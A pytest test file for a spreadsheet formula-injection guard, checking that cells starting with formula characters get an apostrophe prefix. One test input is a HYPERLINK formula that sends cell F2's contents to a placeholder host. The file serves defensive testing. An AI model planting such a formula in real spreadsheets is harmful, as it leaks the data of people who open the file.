"""The formula-injection rule every written spreadsheet cell goes through."""

import pytest

from bot.services.cells import safe_cell, safe_row


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://x/?p="&F2,"Open")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_text_that_starts_a_formula_is_quoted(hostile: str) -> None:
    assert safe_cell(hostile) == "'" + hostile


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert safe_row(["Оспанов", "IS-25-1", 42, -3.5, None, ""]) == [
        "Оспанов",
        "IS-25-1",
        42,
        -3.5,
        None,
        "",
    ]
